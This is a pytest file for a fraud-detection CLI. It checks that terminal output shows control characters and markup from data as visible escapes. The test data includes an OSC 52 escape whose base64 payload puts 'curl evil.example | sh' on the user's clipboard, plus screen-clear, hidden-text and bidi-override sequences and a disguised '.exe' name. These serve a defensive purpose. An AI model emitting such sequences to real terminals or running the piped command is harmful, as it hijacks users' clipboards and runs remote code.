"""What the CLI prints cannot steer the terminal: control characters in data (ESC sequences such as OSC 52
clipboard writes and screen clears, other C0, DEL, C1, bidirectional overrides) are shown as visible escapes, and
rich markup or emoji codes in data are shown as written (fraudwatch.cli.terminal, fraudwatch.cli.output)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from fraudwatch.cli.terminal import safe
from fraudwatch.store.db import Store
from tests.conftest import Run
from tests.test_ingest import sip_lines, write

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes "curl evil.example | sh" to the clipboard
CLEAR = "\x1b[2J\x1b[H"
HIDDEN = "\x1b[8m"
C1_CSI = "\x9b2J"
BIDI = "\u202e"
HOSTILE = f"ua{OSC52}{CLEAR}{HIDDEN}{C1_CSI}{BIDI}gnp.exe\x7f\x08\r:x: [/red][bold]loud[/bold]"


def _clean(text: str) -> None:
    for raw in ("\x1b", "\x9b", "\x07", "\x7f", "\x08", "\r", BIDI):
        assert raw not in text, (raw, text)


def test_safe_replaces_each_control_visibly() -> None:
    assert safe("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert safe("t\tn\nr\r") == "t\\tn\\nr\\r"
    assert safe("\x9b\x7f\x00\u202e\u2066é日本") == "\\x9b\\x7f\\x00\\u202e\\u2066é日本"


@pytest.fixture
def store(tmp_path: Path, cli: Callable[..., Run]) -> Path:
    db = tmp_path / "s.duckdb"
    log = tmp_path / "sipproxy.log"
    write(log, sip_lines(8))
    assert cli("--db", db, "ingest", log).code == 0
    return db


def test_sql_output_shows_data_literally(store: Path, cli: Callable[..., Run]) -> None:
    query = f"SELECT {_literal(HOSTILE)} AS v, {_literal(':x: [red]x[/red]')} AS {_ident(':x:')}"
    run = cli("--db", store, "sql", query)
    assert run.code == 0, run.err
    _clean(run.out)
    assert "\\x1b]52;c;" in run.out and "\\x9b2J" in run.out and "\\u202e" in run.out
    assert ":x: [/red][bold]loud[/bold]" in run.out and "❌" not in run.out and ":x:" in run.out.splitlines()[0]
    as_json = cli("--db", store, "sql", query, "--json")
    _clean(as_json.out)
    assert json.loads(as_json.out)[0]["v"] == HOSTILE  # the same value, escaped as JSON


def test_formats_test_shows_lines_literally(tmp_path: Path, cli: Callable[..., Run]) -> None:
    log = tmp_path / "sipproxy.log"
    lines = sip_lines(6)
    lines.insert(2, f"not a line {HOSTILE}")
    write(log, lines)
    run = cli("formats", "test", log, "--format", "vos3000-sipproxy")
    assert run.code == 0, run.err
    _clean(run.out)
    assert "\\x1b]52;c;" in run.out and "[/red][bold]loud[/bold]" in run.out and "❌" not in run.out
    as_json = cli("formats", "test", log, "--format", "vos3000-sipproxy", "--json")
    _clean(as_json.out)


def test_alerts_show_prints_evidence_literally(store: Path, tmp_path: Path, cli: Callable[..., Run]) -> None:
    evidence_log = tmp_path / "evidence.log"
    evidence_log.write_bytes(f"2026-11-20 03:00:00 REGISTER {HOSTILE}\n".encode())
    evidence = {"lines": [[str(evidence_log), 1, 0]], "user_agent": HOSTILE}
    with Store(store) as st:
        st.con.execute("INSERT INTO alerts (id, rule, severity, key_type, key, description, evidence, action, count, "
                       "first_seen, detected_at) VALUES (1, ?, 'critical', 'ip', ?, ?, ?, 'ban_ip', 3, now(), now())",
                       [f"rule{CLEAR}", f"192.0.2.1{OSC52}", f"desc :x: [/red]{HIDDEN}", json.dumps(evidence)])
    run = cli("--db", store, "alerts", "show", "1")
    assert run.code == 0, run.err
    _clean(run.out)
    assert "\\x1b]52;c;" in run.out and "desc :x: [/red]" in run.out and "❌" not in run.out
    listed = cli("--db", store, "alerts", "list")
    assert listed.code == 0, listed.err
    _clean(listed.out)
    as_json = cli("--db", store, "alerts", "show", "1", "--json")
    _clean(as_json.out)
    assert json.loads(as_json.out)["key"] == f"192.0.2.1{OSC52}"


def test_ingest_summary_shows_a_file_name_with_markup(tmp_path: Path, cli: Callable[..., Run],
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # a short relative path: the table shows it whole
    log = Path("[", "red]logs[bold]", "sip:x:\x1b[2J.log")  # a path holding "[/red]logs[bold]"
    log.parent.mkdir(parents=True)
    write(log, sip_lines(8))
    run = cli("--db", "s.duckdb", "ingest", "--format", "vos3000-sipproxy", log)
    assert run.code == 0, run.err
    _clean(run.out)
    assert "[/red]logs[bold]/sip:x:\\x1b[2J.log" in run.out and "❌" not in run.out


def test_error_lines_are_one_safe_line(tmp_path: Path, cli: Callable[..., Run]) -> None:
    run = cli("formats", "test", tmp_path / f"no{CLEAR}such\nfile")
    assert run.code != 0
    _clean(run.err)
    assert run.err.count("\n") == 1 and "\\x1b[2J" in run.err


def _literal(text: str) -> str:
    """`text` as a DuckDB string expression, control characters as chr() calls."""
    parts = []
    for ch in text:
        parts.append(f"chr({ord(ch)})" if ord(ch) < 0x20 or 0x7f <= ord(ch) <= 0x9f or ch == BIDI
                     else "'" + ch.replace("'", "''") + "'")
    return " || ".join(parts)


def _ident(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_summary_says_none_for_an_empty_section_instead_of_an_empty_table(store: Path,
                                                                           cli: Callable[..., Run]) -> None:
    run = cli("--db", store, "summary")
    assert run.code == 0, run.err
    assert "rejected input by reason: none" in run.out  # the clean log left no rejects
    assert "┃ format ┃ reason" not in run.out
